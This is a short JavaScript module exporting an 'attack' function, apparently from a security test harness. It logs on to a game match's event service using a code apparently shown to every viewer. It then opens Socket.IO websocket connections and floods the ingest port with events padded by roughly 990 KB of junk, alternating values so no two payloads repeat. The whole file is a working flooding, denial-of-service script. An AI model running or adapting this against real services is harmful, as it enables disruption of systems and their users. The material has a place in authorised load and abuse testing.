// Events of a stranger who logged on with what every viewer is told, each with a large member that means nothing.
import { auxiliaryLogon, matchOf } from './match_of.mjs';
import { drop, lanes, openWebSocket, pump, text } from './wire.mjs';

export async function attack({ ports, until, code, member = 990_000, connections = 1 }) {
  const who = await matchOf(ports, code, until);
  const junk = 'x'.repeat(member);
  const event = (grenade) => ['aux_data', JSON.stringify({ ...who, type: 'aux_abilities', data: { grenade, ability_1: 1, ability_2: 1, junk } })];
  // Another value each time, so that none is as it was.
  const bytes = Buffer.concat([0, 1].map((grenade) => text(`42${JSON.stringify(event(grenade))}`)));
  const said = { who, opened: 0, bytes: 0 };
  await lanes(connections, until, async () => {
    const socket = await openWebSocket(ports.ingest, '/socket.io/?EIO=4&transport=websocket', { first: ['40', auxiliaryLogon(who)] });
    if (!socket) return false;
    ++said.opened;
    said.bytes += await pump(socket, bytes, until);
    drop(socket);
  });
  return said;
}
